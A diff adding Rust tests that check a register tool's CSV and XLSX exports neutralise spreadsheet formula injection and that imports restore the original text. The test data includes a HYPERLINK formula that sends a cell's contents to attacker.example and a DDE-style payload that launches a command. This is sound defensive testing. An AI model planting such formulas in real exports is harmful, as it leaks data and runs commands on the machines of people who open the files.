@@ -190,3 +190,174 @@ fn every_print_path_goes_through_the_visible_function() {
     }
     assert!(offending.is_empty(), "printing around assay::visible:\n{}", offending.join("\n"));
 }
+
+fn demo_store() -> Store {
+    let mut store = Store::open_in_memory("tester").expect("store");
+    store.set_fixed_now(Some(common::NOW));
+    assay::commands::demo::generate(
+        &mut store,
+        assay::commands::demo::Shape::of(assay::cli::DemoSize::Small),
+        common::today(),
+    )
+    .expect("demo");
+    store
+}
+
+fn first_id(store: &Store, sql: &str) -> i64 {
+    store.conn().query_row(sql, [], |r| r.get(0)).expect("id")
+}
+
+/// Text cells a spreadsheet would run as formulas.
+const FORMULAS: &[(&str, &str)] = &[
+    ("title", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Details\")"),
+    ("owner", "+1 555 0100"),
+    ("plan", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("description", "-2+3"),
+    ("accepted_by", "'=already guarded"),
+];
+
+fn formula_store() -> (Store, i64) {
+    let mut store = demo_store();
+    let risk = first_id(&store, "SELECT min(id) FROM risk WHERE engagement_id = 1");
+    let values: Vec<(&str, Value)> = FORMULAS.iter().map(|(k, v)| (*k, Value::text(*v))).collect();
+    store.write(|w| w.update(Table::Risk, risk, &values)).expect("write");
+    (store, risk)
+}
+
+#[test]
+fn csv_export_neutralises_formulas_and_the_import_gives_them_back() {
+    let (mut store, risk) = formula_store();
+    let sheets = assay::store::registers::sheets(store.conn(), 1, common::today(), false).expect("sheets");
+    let dir = tempfile::tempdir().expect("tempdir");
+    assay::interchange::write_csv(dir.path(), &sheets, &mut |_, _| {}).expect("csv");
+    let bytes = std::fs::read(dir.path().join("risks.csv")).expect("read");
+    let csv_text = text(&bytes);
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
+    for rec in reader.records() {
+        for cell in rec.expect("record").iter() {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a live formula cell: {cell:?}");
+            // A minus leads only numbers (a negative number is a number, not a formula).
+            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "a live formula cell: {cell:?}");
+        }
+    }
+    assert!(csv_text.contains("'=HYPERLINK"), "{csv_text}");
+    assert!(csv_text.contains("''=already guarded"), "{csv_text}");
+
+    // Read back: the guard comes off, so nothing changes.
+    let table = assay::interchange::read_csv(&bytes, "risks.csv").expect("read csv");
+    let done = assay::store::registers::import(
+        &mut store,
+        1,
+        assay::store::registers::Register::Risks,
+        &table,
+        "risks.csv",
+        common::today(),
+        &mut |_, _| {},
+    )
+    .expect("import");
+    assert_eq!(done.updated, 0, "{done:?}");
+    assert_eq!(done.added, 0, "{done:?}");
+    for (k, v) in FORMULAS {
+        let stored: String =
+            store.conn().query_row(&format!("SELECT {k} FROM risk WHERE id = ?1"), [risk], |r| r.get(0)).expect("get");
+        assert_eq!(&stored, v);
+    }
+}
+
+#[test]
+fn a_quote_is_taken_off_only_before_a_formula_character_and_only_in_text_columns() {
+    let mut store = demo_store();
+    let table = assay::store::registers::Table2 {
+        headers: [
+            "id",
+            "tag",
+            "description",
+            "kind",
+            "classification",
+            "holder_id",
+            "handed_over",
+            "accepted_by",
+            "expected_return",
+            "returned_on",
+            "disposition",
+            "verified_by",
+            "condition",
+            "certificate",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect(),
+        rows: vec![(
+            2,
+            ["", "'-LAPTOP-7", "'It's fine", "device", "'@internal", "", "", "", "", "", "", "", "", ""]
+                .iter()
+                .map(|s| s.to_string())
+                .collect(),
+        )],
+        formula_guards: true,
+    };
+    assay::store::registers::import(
+        &mut store,
+        1,
+        assay::store::registers::Register::Assets,
+        &table,
+        "assets.csv",
+        common::today(),
+        &mut |_, _| {},
+    )
+    .expect("import");
+    let (tag, description, class): (String, String, String) = store
+        .conn()
+        .query_row("SELECT tag, description, classification FROM asset ORDER BY id DESC LIMIT 1", [], |r| {
+            Ok((r.get(0)?, r.get(1)?, r.get(2)?))
+        })
+        .expect("asset");
+    assert_eq!((tag.as_str(), description.as_str(), class.as_str()), ("-LAPTOP-7", "'It's fine", "@internal"));
+
+    // A guarded number is not a number.
+    let mut t2 = table.clone();
+    t2.rows[0].1[5] = "'-1".into();
+    let e = assay::store::registers::import(
+        &mut store,
+        1,
+        assay::store::registers::Register::Assets,
+        &t2,
+        "assets.csv",
+        common::today(),
+        &mut |_, _| {},
+    )
+    .expect_err("a quoted number");
+    assert!(e.to_string().contains("holder_id"), "{e}");
+}
+
+#[test]
+fn xlsx_export_writes_formula_text_as_strings() {
+    let (mut store, risk) = formula_store();
+    let sheets = assay::store::registers::sheets(store.conn(), 1, common::today(), false).expect("sheets");
+    let bytes = assay::interchange::xlsx_bytes(&sheets, &mut |_, _| {}).expect("xlsx");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("r.xlsx");
+    std::fs::write(&path, bytes).expect("write");
+    use calamine::Reader;
+    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&path).expect("open");
+    let formulas = book.worksheet_formula("risks").expect("formulas");
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "the workbook holds formulas");
+    let range = book.worksheet_range("risks").expect("range");
+    assert!(
+        range.used_cells().any(|(_, _, d)| *d == calamine::Data::String(FORMULAS[0].1.to_string())),
+        "the title is a string cell"
+    );
+    drop(book);
+
+    // Read back, every text comes back as it was (a workbook carries no guard to take off).
+    let tables = assay::interchange::read_xlsx(&path).expect("read xlsx");
+    let list: Vec<_> = tables.iter().map(|(r, t, s)| (*r, t, s.as_str())).collect();
+    let done =
+        assay::store::registers::import_many(&mut store, 1, &list, common::today(), &mut |_, _| {}).expect("import");
+    assert_eq!((done.added, done.updated), (0, 0), "{done:?}");
+    for (k, v) in FORMULAS {
+        let stored: String =
+            store.conn().query_row(&format!("SELECT {k} FROM risk WHERE id = ?1"), [risk], |r| r.get(0)).expect("get");
+        assert_eq!(&stored, v);
+    }
+}
